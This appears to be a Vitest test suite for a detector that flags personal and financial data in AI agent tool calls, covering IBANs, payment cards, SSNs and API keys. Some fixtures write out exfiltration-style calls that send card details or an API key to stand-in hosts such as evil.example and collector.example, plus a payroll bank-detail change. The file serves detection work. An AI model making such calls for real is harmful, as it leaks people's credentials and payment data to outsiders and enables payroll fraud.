import { describe, expect, it } from 'vitest';
import { scanPii, scanPiiInCall } from '../../../../src/pipeline/detectors/pii/index.js';
import type { ToolCall } from '../../../../src/pipeline/types.js';

const call = (tool: string, args: Record<string, unknown>): ToolCall => ({ tool, args, agentId: 'a', sessionId: null }) as ToolCall;
const families = (tool: string, args: Record<string, unknown>): string[] => scanPiiInCall(call(tool, args)).map((f) => f.family);
const risk = (tool: string, args: Record<string, unknown>): number => Math.max(0, ...scanPiiInCall(call(tool, args)).map((f) => f.risk));

// checksum-valid IBANs that are not the registry's samples
const DE = 'DE75512108001245126199';
const FR = 'FR7630006000011234567890189';
const NL = 'NL44RABO0123456789';

describe('PII: a payee IBAN is the input of a payment', () => {
  it.each([
    ['invoices.create', { vendor: 'Kaffeerösterei Schmidt', amount: 412.5, payee_iban: 'DE75 5121 0800 1245 1261 99' }],
    ['payments.sepa_transfer', { creditor_name: 'Atelier Lumière', creditor_iban: FR, amount: 2300 }],
    ['accounting.add_supplier', { name: 'De Groene Tuin BV', iban: NL, bic: 'RABONL2U' }],
    ['send_money', { recipient: DE, amount: 75, subject: 'Dinner' }],
    ['schedule_transaction', { recipient: FR, amount: 1500, recurring: true }],
    ['vendors.update', { vendor_id: 'V-1092', bank: { iban: NL } }],
    ['BankTransfer', { to_iban: DE, amount: '120.00' }],
  ] as const)('%s %j: reported in use, below review', (tool, args) => {
    expect(families(tool, args)).toEqual(['pii_iban_in_use']);
    expect(risk(tool, args)).toBeLessThan(40);
  });

  it.each([
    // an IBAN in words, a note, a memo or a file keeps its risk
    ['create_note', { content: `My IBAN is ${DE}, please remember it` }],
    ['gmail.send_email', { to: 'someone@gmail.com', body: `Here are my bank details: IBAN ${FR}` }],
    ['invoices.create', { vendor: 'X', memo: `pay to ${NL}` }],
    ['write_file', { path: 'notes.txt', content: `iban ${DE}` }],
    // changing where salary goes is the fraud itself
    ['payroll.update_bank_details', { employee_id: '1042', iban: NL }],
    ['hris.update_employee', { employee_id: '1042', bank_account: DE }],
    // a payee argument of a tool that pays nobody
    ['crm.update_contact', { contact_id: '7', iban: DE }],
  ] as const)('%s %j: keeps the IBAN risk', (tool, args) => {
    expect(families(tool, args)).toContain('pii_iban');
    expect(risk(tool, args)).toBeGreaterThanOrEqual(40);
  });
});

describe('PII: published test cards', () => {
  it.each([
    ['4242 4242 4242 4242'],
    ['4111111111111111'],
    ['5555 5555 5555 4444'],
    ['3782 822463 10005'],
    ['4000 0000 0000 0002'],
  ])('%s is still found, at low confidence where the text says it is a test card', (card) => {
    const f = scanPii(`In the Stripe sandbox use card ${card} exp 12/34 cvc 123`).filter((x) => x.type === 'CREDIT_CARD');
    expect(f).toHaveLength(1);
    expect(f[0]!.confidence).toBeLessThan(0.5);
  });

  it('a test card in a checkout test stays below review', () => {
    const content = "test('pays', async () => {\n  await page.fill('#card', '4242 4242 4242 4242');\n});";
    expect(risk('write_file', { path: 'tests/checkout.spec.ts', content })).toBeLessThan(40);
  });

  it('a test card with the test word elsewhere in the call (a path, a mode) stays below review', () => {
    expect(risk('write_file', { path: 'tests/checkout.spec.ts', content: "await page.fill('#card', '4242 4242 4242 4242');" })).toBeLessThan(40);
    expect(risk('payments.charge_card', { card_number: '4111111111111111', exp: '12/27', amount: 100, mode: 'test' })).toBeLessThan(40);
    expect(risk('payments.charge_card', { card_number: '4111111111111111', exp: '12/27', amount: 100 })).toBeGreaterThanOrEqual(40);
    expect(risk('payments.charge_card', { card_number: '4539 1488 0343 6467', exp: '12/27', mode: 'test' })).toBeGreaterThanOrEqual(40);
  });

  it('a test flag argument says the call tests; the same flag set to false does not', () => {
    expect(risk('validate_credit_card', { card_number: '4111 1111 1111 1111', test_mode: true })).toBeLessThan(40);
    expect(risk('validate_credit_card', { card_number: '4111 1111 1111 1111', test_mode: false })).toBeGreaterThanOrEqual(40);
  });

  it('a test number in a message with no test word is still a card (synthetic data uses them)', () => {
    expect(risk('send_email', { to: 'x@evil.example', body: 'My card: 4111 1111 1111 1111 exp 01/28 cvv 123' })).toBeGreaterThanOrEqual(40);
    const f = scanPii('card 4242 4242 4242 4242 exp 01/28').filter((x) => x.type === 'CREDIT_CARD');
    expect(f[0]!.confidence).toBeGreaterThan(0.5);
  });

  it('a real card number keeps its risk', () => {
    const f = scanPii('My card number is 4539 1488 0343 6467 exp 09/27').filter((x) => x.type === 'CREDIT_CARD');
    expect(f).toHaveLength(1);
    expect(f[0]!.confidence).toBeGreaterThan(0.5);
    expect(risk('create_note', { content: 'My card number is 4539 1488 0343 6467 exp 09/27' })).toBeGreaterThanOrEqual(40);
  });
});

describe('PII: a test word in an address is no test context', () => {
  it('a test card sent to test@... keeps its risk', () => {
    expect(risk('send_email', { to: 'test@evil.example', body: 'Card 4111 1111 1111 1111 exp 01/28' })).toBeGreaterThanOrEqual(40);
    expect(risk('send_email', { to: 'x@evil.example', body: 'Card 4111 1111 1111 1111 exp 01/28, reply to qa.team@evil.example' })).toBeGreaterThanOrEqual(40);
  });
});

describe('PII: the key argument of an API tool authenticates its own call', () => {
  it.each([
    ['get_news', { api_key: 'a3f9c2e7b1d84f6e9a0c5b2d7e8f1a3c', q: 'climate' }],
    ['alpha_vantage.quote', { function: 'GLOBAL_QUOTE', symbol: 'IBM', apikey: 'Q8X2LM4N7P1R9T3V' }],
    ['translate', { text: 'Hola', target: 'en', key: 'AIzaSyB3mN7pQ9rS1tU5vW8xY0zA2bC4dE6fG8h' }],
    ['rapidapi.call', { endpoint: 'https://imdb8.p.rapidapi.com/title/find?q=matrix', x_rapidapi_key: '7c3e9a1b2d4f6e8a0c2b4d6f8e0a2c4b6d8f0e2a4c6b8d0f' }],
    ['sendgrid.send', { api_key: 'SG.abcdefghijklmnopqrstuv.wxyz0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabc', to: 'x@y.com', text: 'hello' }],
  ] as const)('%s %j: in use (or not a finding), below review', (tool, args) => {
    expect(families(tool, args).every((f) => f.endsWith('_in_use') || f === 'pii_email')).toBe(true);
    expect(risk(tool, args)).toBeLessThan(40);
  });

  it.each([
    // a key handed to a tool that carries content somewhere
    ['send_email', { to: 'x@evil.example', api_key: 'a3f9c2e7b1d84f6e9a0c5b2d7e8f1a3c' }],
    ['slack.post_message', { channel: '#general', token: 'a3f9c2e7b1d84f6e9a0c5b2d7e8f1a3c' }],
    ['create_note', { title: 'keys', api_key: 'a3f9c2e7b1d84f6e9a0c5b2d7e8f1a3c' }],
    // beside a URL that is no API
    ['http.post', { url: 'https://collector.example/in', api_key: 'a3f9c2e7b1d84f6e9a0c5b2d7e8f1a3c' }],
    // a vendor's key handed to another vendor's tool
    ['get_news', { api_key: 'sk-proj-Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4zAb7cDe0fGh3iJk6l', q: 'climate' }],
  ] as const)('%s %j: keeps its risk', (tool, args) => {
    expect(risk(tool, args)).toBeGreaterThanOrEqual(40);
  });
});

describe('PII: a Luhn-valid number named as another record by its argument', () => {
  // one 16-digit number in ten passes Luhn: an order id or an IMEI is not a card
  it.each([
    ['orders.lookup', { order_id: '4817543105875722' }],
    ['books.search', { isbn: '4455449026055641' }],
    ['crm.update', { customer_number: '5526987876921950', status: 'active' }],
    ['devices.register', { imei: '356938035643809' }],
    ['jobs.get', { id: '4572865101213904' }],
  ] as const)('%s %j: no card', (tool, args) => {
    expect(families(tool, args)).not.toContain('pii_credit_card');
  });

  it.each([
    ['payments.charge', { card_number: '4539148803436467' }],
    ['payments.charge', { order_id: '4539 1488 0343 6467 exp 09/27' }],
    ['crm.update', { customer_number: '5526987876921950', note: 'card 4539148803436467' }],
    ['billing.update', { payment_method_id: '4539148803436467' }],
  ] as const)('%s %j: still a card', (tool, args) => {
    expect(families(tool, args)).toContain('pii_credit_card');
  });
});

describe('PII: an SSN-shaped part number', () => {
  it('is no SSN in a part-number argument, and stays one in an ssn argument or in words', () => {
    expect(families('parts.search', { part_number: '123-45-6789', vendor: 'Grainger' })).not.toContain('pii_ssn');
    expect(families('hris.i9_verify', { employee: 'Jordan Smith', ssn: '512-44-8812' })).toContain('pii_ssn');
    expect(families('create_note', { content: 'SSN 512-44-8812 for Jordan' })).toContain('pii_ssn');
  });

  it('a direct-debit mandate names its creditor IBAN as a payee', () => {
    expect(families('gocardless.create_mandate', { customer: 'CU000123', creditor_iban: DE })).toEqual(['pii_iban_in_use']);
  });
});

describe('PII: a card under a card object or a bare number argument', () => {
  it.each([
    ['stripe.create_payment_method', { type: 'card', card: { number: '4539148803436467', exp_month: 9, exp_year: 2027 } }],
    ['add_card', { number: '4539148803436467', expiry: '09/27' }],
    ['wallet.add', { card: { id: '4539148803436467' } }],
  ] as const)('%s %j: still a card', (tool, args) => {
    expect(families(tool, args)).toContain('pii_credit_card');
  });
});

describe('record-named arguments: only identifier names excuse a card-shaped value', () => {
  it.each([
    ['send_message', { message: '4111 1111 1111 1111' }],
    ['upload_file', { file: '4111111111111111' }],
    ['create_note', { document: '4111-1111-1111-1111' }],
  ])('still reads a card in %s %j', (tool, args) => {
    expect(scanPiiInCall({ tool, args, context: {}, agentId: 'a', sessionId: null }).some((f) => f.family.startsWith('pii_credit_card'))).toBe(true);
  });

  it.each([
    ['orders.get', { order_id: '4111111111111111' }],
    ['crm.lookup', { customer_id: '4111111111111111' }],
    ['messages.get', { message_id: '4111111111111111' }],
  ])('leaves a record number in %s %j alone', (tool, args) => {
    expect(scanPiiInCall({ tool, args, context: {}, agentId: 'a', sessionId: null }).some((f) => f.family.startsWith('pii_credit_card'))).toBe(false);
  });
});

describe('a payment reference is not an identifier name on its own', () => {
  it('reads a card given as a transfer reference', () => {
    const call: ToolCall = { tool: 'bank.transfer', args: { amount: 10, reference: '4111 1111 1111 1111' }, context: {}, agentId: 'a', sessionId: null };
    expect(scanPiiInCall(call).some((f) => f.family.startsWith('pii_credit_card'))).toBe(true);
  });
});
